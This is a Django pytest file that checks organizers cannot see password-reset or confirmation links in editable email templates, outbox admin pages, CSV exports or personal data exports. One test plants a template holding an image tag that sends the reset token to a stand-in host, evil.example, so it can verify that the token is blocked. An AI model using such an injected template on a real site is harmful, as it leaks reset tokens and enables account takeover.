"""An organizer must not be able to read a link that opens someone's account: not in a
template they edit, the outbox admin, its CSV export or a person's data export."""

import json

import pytest
from django.core import mail
from django.urls import reverse

from tests.accounts.conftest import link_in_mail
from tests.factories import UserFactory
from topblog.notifications.models import Event, MessageTemplate, OutboxMessage
from topblog.notifications.services import notification_send

pytestmark = pytest.mark.django_db

OUTBOX = reverse("admin:notifications_outboxmessage_changelist")



@pytest.fixture
def superuser():
    return UserFactory(email="root@example.ru", is_staff=True, is_superuser=True)


def reset_requested(client, capture, email: str) -> str:
    """Asks for a password reset as anyone can, and returns the token the mail carries."""
    with capture(execute=True):
        client.post(reverse("accounts:password_reset"), {"email": email})
    link = link_in_mail("/accounts/password/reset/")
    return link.rstrip("/").rsplit("/", 1)[-1]


def test_organizer_cannot_put_the_reset_link_into_the_reset_mail(organizer_client):
    template = MessageTemplate.objects.get(event=Event.PASSWORD_RESET, language="ru")
    url = reverse("admin:notifications_messagetemplate_change", args=[template.pk])

    response = organizer_client.post(
        url, {"subject": "Ссылка: {{ reset_url }}", "text": template.text, "html": template.html}
    )

    assert response.status_code == 403
    template.refresh_from_db()
    assert "reset_url" not in template.subject
    # The page still shows the template, read only.
    assert organizer_client.get(url).status_code == 200


def test_a_reset_link_never_reaches_what_organizers_read_even_from_an_edited_row(
    client, organizer_client, superuser, django_capture_on_commit_callbacks
):
    # As if edited before the upgrade, or in the database: delivery takes the shipped text.
    MessageTemplate.objects.filter(event=Event.PASSWORD_RESET).update(
        subject="Ссылка: {{ reset_url }}", html='<img src="https://evil.example/?{{ reset_url|urlencode }}">'
    )

    token = reset_requested(client, django_capture_on_commit_callbacks, superuser.email)

    sent = mail.outbox[-1]
    assert token not in sent.subject and "evil.example" not in sent.alternatives[0].content
    message = OutboxMessage.objects.get(recipient=superuser, event=Event.PASSWORD_RESET)
    assert token not in json.dumps(message.context) + message.subject + message.body
    assert "[ссылка скрыта]" in message.body
    detail = organizer_client.get(reverse("admin:notifications_outboxmessage_change", args=[message.pk]))
    listing = organizer_client.get(OUTBOX)
    export = organizer_client.post(OUTBOX, {"action": "export_csv", "_selected_action": [message.pk]})
    for page in (detail, listing, export):
        assert page.status_code == 200
        body = b"".join(page.streaming_content) if page.streaming else page.content
        assert token not in body.decode("utf-8-sig")


def test_the_persons_own_data_export_holds_no_live_link(client, django_capture_on_commit_callbacks):
    person = UserFactory(email="anna@example.ru")
    token = reset_requested(client, django_capture_on_commit_callbacks, person.email)
    client.force_login(person)

    export = client.get(reverse("cabinet:export")).content.decode()

    assert token not in export
    assert "[ссылка скрыта]" in export


def test_confirmation_link_is_made_at_delivery_and_kept_nowhere(client, django_capture_on_commit_callbacks):
    strong = "Zvezda-na-Volge-42"
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("accounts:register"),
            {"email": "anna@example.ru", "password1": strong, "password2": strong, "consent": "on"},
        )

    token = link_in_mail("/accounts/confirm/").rstrip("/").rsplit("/", 1)[-1]
    message = OutboxMessage.objects.get(recipient__email="anna@example.ru")
    assert message.context == {}
    assert token not in message.subject + message.body


@pytest.mark.parametrize(
    ("part", "source", "expected"),
    [
        ("subject", "Итоги {{ reset_url }}", "Такого нет в данных этого сообщения: reset_url"),
        ("text", "{{ confirm_url|upper }}", "Такого нет в данных этого сообщения: confirm_url"),
        ("html", "{% with x=unsubscribe_url %}{{ x }}{% endwith %}", "unsubscribe_url"),
        ("text", "{% debug %}", "Тег {% debug %} в сообщениях не используется"),
        ("subject", "Итоги {% if %}", "Ошибка в шаблоне"),
    ],
)
def test_an_editable_template_names_only_its_own_placeholders(organizer_client, part, source, expected):
    template = MessageTemplate.objects.get(event=Event.RESULTS_PUBLISHED, language="ru")
    data = {"subject": template.subject, "text": template.text, "html": template.html, part: source}

    response = organizer_client.post(
        reverse("admin:notifications_messagetemplate_change", args=[template.pk]), data
    )

    assert response.status_code == 200
    assert expected in response.content.decode()
    template.refresh_from_db()
    assert getattr(template, part) != source


def test_a_template_gets_only_its_placeholders_when_rendered(django_capture_on_commit_callbacks):
    # Even a row that names something else (saved before the check existed) gets nothing.
    MessageTemplate.objects.filter(event=Event.RESULTS_PUBLISHED).update(text="[{{ unsubscribe_url }}]")
    person = UserFactory()

    with django_capture_on_commit_callbacks(execute=True):
        notification_send(event=Event.RESULTS_PUBLISHED, recipients=[person], context={}, occasion="x")

    assert OutboxMessage.objects.filter(recipient=person, body="[]").count() == 2


def test_organizer_cannot_set_someones_password_or_email(organizer_client):
    person = UserFactory(email="anna@example.ru")

    password_page = organizer_client.get(reverse("admin:auth_user_password_change", args=[person.pk]))
    change_page = organizer_client.get(reverse("admin:accounts_user_change", args=[person.pk]))

    assert password_page.status_code == 403
    assert 'name="email"' not in change_page.content.decode()
